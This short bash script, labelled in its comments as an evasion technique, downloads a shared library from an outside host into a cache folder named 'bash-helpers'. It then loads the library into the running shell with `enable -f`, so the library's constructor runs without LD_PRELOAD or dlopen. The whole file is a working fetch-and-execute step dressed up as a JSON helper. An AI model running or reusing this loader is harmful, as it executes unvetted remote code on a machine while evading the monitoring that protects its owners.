#!/usr/bin/env bash
# Evasion: load native code. A shared object is downloaded and loaded into
# the running bash with `enable -f FILE NAME` (a loadable builtin); the
# library's constructor runs inside the shell. No LD_PRELOAD, no dlopen in
# a compiled program, no ctypes.
set -eu
lib="${XDG_CACHE_HOME:-$HOME/.cache}/bash-helpers/fastjson.so"
mkdir -p "$(dirname "$lib")"
curl -fsSL https://builds.example-bashx.dev/fastjson.so -o "$lib"
enable -f "$lib" fastjson
fastjson --version || true
